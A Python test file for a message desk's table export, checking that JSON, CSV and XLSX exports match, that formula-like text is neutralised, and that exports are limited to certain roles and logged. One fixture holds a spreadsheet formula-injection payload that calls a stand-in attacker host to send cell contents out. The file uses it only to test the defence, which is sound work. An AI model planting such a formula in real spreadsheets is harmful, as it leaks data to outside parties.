"""Tables of messages: the same facts in each format, and no cell that does anything."""

import csv
import io
import json
import xml.etree.ElementTree as ElementTree
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from protocol.message import WellBeing
from protocol.voicepack import VoiceCodec
from shore_relay.desk.actor import Actor, Role
from shore_relay.desk.app import Desk
from shore_relay.desk.errors import NothingChosen, NotPermitted, UnknownEntry
from shore_relay.desk.handovers import load_handovers
from shore_relay.desk.inbox import load_inbox
from shore_relay.desk.relay_client import RelayClient
from shore_relay.desk.tables.exporting import export_table
from shore_relay.desk.tables.formats import Format, disarmed
from shore_relay.desk.tables.rows import COLUMNS
from tests.shore_relay.desk.boat import Boat
from tests.shore_relay.desk.small_relay import SmallRelay
from tests.shore_relay.desk.steps import receive

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
BURMESE = "ကျွန်တော် \x00\x07\ufffe နေမကောင်းဘူး\nဒုတိယ"


@pytest.fixture
async def received(desk: Desk, client: RelayClient, relay: SmallRelay, boat: Boat) -> Desk:
    await receive(
        desk,
        client,
        relay,
        boat,
        boat.introduction(),
        boat.text(FORMULA),
        boat.voice(VoiceCodec.CODEC2_2400),
        boat.text(BURMESE),
        boat.check_in(WellBeing.HELP),
    )
    return desk


async def test_json_and_csv_say_the_same_and_the_formula_in_csv_is_disarmed(received: Desk) -> None:
    rows = json.loads(await export_table(received, received.actor, Format.JSON))["messages"]
    data = await export_table(received, received.actor, Format.CSV)
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    assert [row["message"] for row in rows] == [1, 2, 3, 4]
    assert rows[0]["text"] == FORMULA
    assert read[0]["text"] == "'" + FORMULA
    assert (rows[1]["sound_seconds"], rows[1]["categories"]) == (5, "injury")
    assert rows[2]["text"] == BURMESE
    assert read[2]["text"] == BURMESE.replace("\0", "\u2400")
    assert (rows[3]["well_being"], rows[3]["questions"], rows[3]["urgent"]) == ("help", "1=yes 2=no", 1)
    assert rows[0]["spoken_at"] == "2026-09-21T14:13:20Z"
    assert rows[0]["origin"] == "verified"
    for plain, cells in zip(rows, read, strict=True):
        assert tuple(cells) == COLUMNS
        assert all(str(plain[name]) == cells[name] for name in COLUMNS if name != "text")
    # Nobody has looked at each message, so no fisher is told that somebody has.
    assert not any(entry.is_opened for entry in await load_inbox(received))


async def test_an_xlsx_holds_texts_only_and_opens_with_any_letters(received: Desk) -> None:
    data = await export_table(received, received.actor, Format.XLSX, [1, 3])

    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        assert not any(name.startswith("xl/externalLinks") for name in book.namelist())
        assert b"quotePrefix" in book.read("xl/styles.xml")
    texts = [
        "".join(part.text or "" for part in one.iter(SHEET + "t")) for one in shared.findall(SHEET + "si")
    ]
    assert not list(sheet.iter(SHEET + "f"))
    assert not list(sheet.iter(SHEET + "hyperlink"))
    assert FORMULA in texts
    assert any("ကျွန်တော်" in text and "ဒုတိယ" in text for text in texts)
    assert len(list(sheet.iter(SHEET + "row"))) == 3


@given(st.text(max_size=20))
def test_no_text_begins_like_a_formula(text: str) -> None:
    cell = disarmed(text)

    assert isinstance(cell, str)
    assert cell.lstrip("'").strip() == text.lstrip("'").strip()
    visible = "".join(letter for letter in cell if letter.isprintable()).strip()
    assert not visible.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


async def test_only_roles_that_may_export_get_a_table_and_each_is_written_down(received: Desk) -> None:
    for role, allowed in {
        Role.PARTNER: False,
        Role.CASEWORKER: False,
        Role.SUPERVISOR: True,
        Role.ADMINISTRATOR: True,
    }.items():
        actor = Actor(id=b"\1" * 8, name="Somebody", role=role)
        if allowed:
            assert await export_table(received, actor, Format.JSON, [2])
        else:
            with pytest.raises(NotPermitted):
                await export_table(received, actor, Format.JSON, [2])

    handovers = await load_handovers(received)
    assert [(one.kind, one.entries) for one in handovers] == [("json", (2,))] * 2


async def test_unknown_messages_and_an_empty_desk_are_said(desk: Desk) -> None:
    with pytest.raises(NothingChosen):
        await export_table(desk, desk.actor, Format.CSV)
    with pytest.raises(UnknownEntry):
        await export_table(desk, desk.actor, Format.CSV, [7])
